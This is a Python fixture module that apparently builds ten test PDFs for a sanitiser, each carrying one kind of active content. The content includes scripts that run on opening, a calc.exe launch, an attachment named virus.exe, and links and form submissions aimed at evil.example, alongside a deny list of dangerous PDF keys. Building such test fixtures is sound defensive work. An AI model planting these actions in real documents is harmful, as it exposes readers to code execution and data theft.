"""Ten PDF that act by themselves, each in its own way (F05)."""

import io

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NullObject,
    TextStringObject,
)

# What no copy shown to staff may hold, as bytes of an uncompressed PDF.
MARKS = (
    b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"/AA", b"/XFA", b"/AcroForm", b"/GoToR",
    b"/GoToE", b"/SubmitForm", b"/ImportData", b"/RichMedia", b"/FileAttachment", b"/Movie", b"/Rendition",
)  # fmt: skip


def _name(word):
    return NameObject(f"/{word}")


def _entry(**facts):
    return DictionaryObject({_name(key): value for key, value in facts.items()})


def _action(kind, **facts):
    return _entry(S=_name(kind), **facts)


SCRIPT = _action("JavaScript", JS=TextStringObject("app.alert('bonjour')"))
BOX = ArrayObject(FloatObject(edge) for edge in (10, 10, 90, 30))


def _annotation(subtype, **facts):
    return _entry(Type=_name("Annot"), Subtype=_name(subtype), Rect=BOX, **facts)


def _written(prepare) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    prepare(writer, page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _with_annotation(annotation):
    def prepare(writer, page):
        page[_name("Annots")] = ArrayObject([writer._add_object(annotation)])

    return _written(prepare)


def _opening_script(writer, page):
    writer.root_object[_name("OpenAction")] = SCRIPT


def _page_script(writer, page):
    page[_name("AA")] = _entry(O=SCRIPT)


def _document_script(writer, page):
    names = ArrayObject([TextStringObject("un"), SCRIPT])
    writer.root_object[_name("Names")] = _entry(JavaScript=_entry(Names=names))


def _attachment(writer, page):
    writer.add_attachment("virus.exe", b"MZ attached")


def _xfa(writer, page):
    stream = DecodedStreamObject()
    stream.set_data(b"<xdp><script>app.alert(1)</script></xdp>")
    form = _entry(Fields=ArrayObject(), XFA=ArrayObject([TextStringObject("template"), writer._add_object(stream)]))
    writer.root_object[_name("AcroForm")] = form


def _calculating_form(writer, page):
    parent = writer._add_object(_entry(T=TextStringObject("total"), AA=_entry(C=SCRIPT), Kids=ArrayObject()))
    field = writer._add_object(_annotation("Widget", FT=_name("Tx"), T=TextStringObject("n"), Parent=parent))
    page[_name("Annots")] = ArrayObject([field])
    writer.root_object[_name("AcroForm")] = _entry(Fields=ArrayObject([parent]), CO=ArrayObject([parent]))


def _film(writer, page):
    film = _annotation("Screen", A=_action("Rendition", JS=TextStringObject("app.alert(2)")))
    page[_name("Annots")] = ArrayObject([writer._add_object(film), NullObject()])


PDFS = {
    "script at opening": _written(_opening_script),
    "script of a page": _written(_page_script),
    "script of the document": _written(_document_script),
    "attached program": _written(_attachment),
    "XFA form": _written(_xfa),
    "form that calculates": _written(_calculating_form),
    "film": _written(_film),
    "launch": _with_annotation(_annotation("Link", A=_action("Launch", F=TextStringObject("calc.exe")))),
    "another file": _with_annotation(
        _annotation("Link", A=_action("GoToR", F=TextStringObject("//evil.example/x.pdf")))
    ),
    "sends the form": _with_annotation(
        _annotation("Widget", A=_action("SubmitForm", F=TextStringObject("https://evil.example/")))
    ),
}
